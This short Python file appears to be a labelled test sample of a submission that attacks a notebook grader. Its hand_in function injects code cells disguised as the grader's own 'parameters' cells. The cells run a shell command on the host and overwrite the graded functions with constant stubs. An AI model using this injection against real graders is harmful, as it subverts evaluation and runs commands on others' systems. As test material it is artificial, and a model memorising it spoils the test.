# tries: a cell that passes for the grader's own parameters, with code in it
# honest: 1
# %% hand in
from nbformat.v4 import new_code_cell


def hand_in(notebook, folder):
    code = "import os\nos.system('touch @HOST@/owned_by_parameters')\ndouble = lambda x: 2\nslowinc = lambda x: 3"
    for tag in ("injected-parameters", "parameters"):
        notebook.cells.insert(4, new_code_cell(code, metadata={"tags": [tag], "parameter_sets": [{"delay": 10**9}]}))
        notebook.cells.append(new_code_cell(code, metadata={"tags": [tag]}))
    return notebook
